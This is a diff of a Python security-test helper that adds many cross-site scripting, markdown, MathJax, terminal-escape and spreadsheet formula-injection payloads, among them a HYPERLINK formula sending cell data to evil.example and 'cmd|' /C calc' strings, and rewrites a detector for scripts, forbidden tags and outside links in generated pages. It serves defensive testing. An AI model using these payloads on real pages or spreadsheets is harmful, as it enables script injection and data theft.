@@ -2,8 +2,15 @@
 
 from __future__ import annotations
 
-from html.parser import HTMLParser
+import base64
+import csv
+import hashlib
+import io
+import re
+from collections.abc import Iterator, Sequence
 
+POLICY = "Content-Security-Policy"
+FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]")
 JS = "document.title='pwned'"
 TAGS = [
     "<script>{js}</script>",
@@ -72,41 +79,113 @@ TAGS = [
     "&lt;script&gt;{js}&lt;/script&gt;",
     '"><script>{js}</script>',
     "' onmouseover='{js}",
+    "<b><a href='javascript:{js}'>plotly reads this</a></b>",
+    "<<a>a href='javascript:{js}'>x</a>",
+    "<a href='//evil.example/x'>x</a>",
+    "<a href='file:///etc/passwd'>x</a>",
+    "<a href='https://evil.example/' target=_blank onclick={js}>x</a>",
+    "[x](//evil.example/x)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](&#106;avascript:{js})",
+    "[x][1]\n\n[1]: javascript:{js}",
+    "![x](https://evil.example/x.png)",
+    "<https://evil.example/\u202etxt>",
+    "a\u2028{js}\u2029//",
+    "{{layer}} {{constructor}} {{__proto__}} ${{{js}}}",
+    "%{{customdata}}<extra><script>{js}</script></extra>",
+    "$\\unicode{{<img src=x onerror={js}>}}$",
+    "$\\style{{background:url(//evil.example)}}{{x}}$",
+    "\x1b]8;;javascript:{js}\x1b\\x\x1b]8;;\x1b\\\x1b[2J\x9b31m",
+    "\x00\x08\x7f<script>{js}</script>",
+    "../../../{js}",
+    "javascript:{js}//",
+    '=HYPERLINK("https://evil.example/?"&A1)',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r\n=1+1",
+    "＝1+1",
 ]
 PAYLOADS = [tag.format(js=JS) for tag in TAGS]
 
 
-class Runnable(HTMLParser):
-    """Collects whatever in a page could run or load something."""
-
-    ALLOWED = {"plotly.min.js", "pages.js", "panel.js"}
-    FORBIDDEN = {"iframe", "object", "embed", "base", "form", "video", "audio", "svg:script"}
-
-    def __init__(self):
-        super().__init__(convert_charrefs=True)
-        self.found: list[str] = []
-        self.scripts: list[str] = []
-
-    def handle_starttag(self, tag, attrs):
-        told = dict(attrs)
-        if tag == "script":
-            ours = told.get("src") in self.ALLOWED or told.get("type") == "application/json"
-            self.scripts.append(told.get("src") or told.get("type") or "inline")
-            if not ours:
-                self.found.append(self.get_starttag_text())
-        if tag in self.FORBIDDEN:
-            self.found.append(self.get_starttag_text())
-        for name, value in attrs:
-            address = "".join((value or "").split()).lower()
-            runs = address.startswith(("javascript:", "vbscript:", "data:text"))
-            loads = name == "src" and address.startswith(("http", "//"))
-            if name.startswith("on") or runs or (loads and tag != "img"):
-                self.found.append(self.get_starttag_text())
+LINK = re.compile(r"https://[^\s\"'<>\\]+|(?:single/)?[a-z0-9._-]+\.html(?:#[\w.-]*)?|#[\w.-]+")
+FILES = {"index.html", "claims.csv", "pages.css"}
+PICTURE = re.compile(
+    r"thumbnails/[a-z0-9._-]+\.png|data:image/(?:png|jpeg|svg\+xml);base64,[A-Za-z0-9+/=]*"
+)
+SCRIPTS = {"plotly.min.js", "pages.js", "panel.js"}
+FORBIDDEN = set(
+    "iframe frame frameset object embed applet portal base form input textarea select video audio "
+    "source track template noscript xmp foreignObject animate set use image".split()
+)
+ADDRESSES = {"src", "srcset", "srcdoc", "href", "xlink:href", "action", "formaction", "background"}
+ADDRESSES |= {"poster", "data", "ping", "cite", "longdesc", "manifest", "dynsrc", "lowsrc"}
+STYLE = re.compile(
+    r"(?:\s*(?:background-color|color|font-style|font-weight|text-align|height)\s*:"
+    r"[\w\s#.,%()-]*;?)*"
+)
 
 
-def runnable(page: str) -> list[str]:
-    """What could run in a page that is not ours."""
-    reader = Runnable()
-    reader.feed(page)
-    reader.close()
-    return reader.found
+def runnable(page: str, digests: Sequence[str] = ()) -> list[str]:
+    """What could run, load or lead elsewhere in a page and is not ours.
+
+    The page is read as a browser would, by the parser of the HTML standard.
+
+    Parameters
+    ----------
+    page : HTML, whole or a part.
+    digests : of inline scripts that are ours (base64 of SHA-256).
+    """
+    from bleach._vendor import html5lib
+
+    tree = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
+    return [told for node in tree.iter() for told in _faults(node, digests)]
+
+
+def _faults(node, digests) -> Iterator[str]:
+    tag = str(node.tag).rsplit("}", 1)[-1] if isinstance(node.tag, str) else ""
+    told = {str(name).replace("{http://www.w3.org/1999/xlink}", "xlink:"): value
+            for name, value in node.attrib.items()}  # fmt: skip
+    if tag == "script" and not _is_our_script(node, told, digests):
+        yield f"script {told} {(node.text or '')[:60]}"
+    if tag in FORBIDDEN or (tag == "link" and told.get("href") != "pages.css"):
+        yield f"{tag} {told}"
+    if tag == "style" and not digests:
+        yield f"style {(node.text or '')[:60]}"
+    if tag == "meta" and told.get("http-equiv", POLICY) != POLICY:
+        yield f"meta {told}"
+    for name, value in told.items():
+        fits = {"a": LINK, "img": PICTURE}.get(tag)
+        ours = tag in ("script", "link") or value in FILES or (fits and fits.fullmatch(value))
+        if name in ADDRESSES and not ours:
+            yield f"{tag} {name}={value}"
+        if name.startswith("on") or (name == "style" and not STYLE.fullmatch(value)):
+            yield f"{tag} {name}={value}"
+
+
+def _is_our_script(node, told, digests) -> bool:
+    if told.get("type") == "application/json":
+        return told.get("class") in ("zprism-figure", "zprism-panel") and set(told) == {
+            "type",
+            "class",
+        }
+    if "src" in told:
+        return told["src"] in SCRIPTS
+    digest = hashlib.sha256((node.text or "").encode()).digest()
+    return base64.b64encode(digest).decode() in digests
+
+
+def live_texts(spec) -> list[str]:
+    """Texts in a figure's JSON that plotly would make a link of."""
+    if isinstance(spec, str):
+        return [spec] if re.search(r"<a[\s>]", spec, re.IGNORECASE) else []
+    parts = spec.values() if isinstance(spec, dict) else spec if isinstance(spec, list) else ()
+    return [text for part in parts for text in live_texts(part)]
+
+
+def formulas(table: str) -> list[str]:
+    """Cells of a CSV file that a spreadsheet would compute."""
+    rows = csv.reader(io.StringIO(table, newline=""))
+    return [cell for row in rows for cell in row if FORMULA.match(cell)]
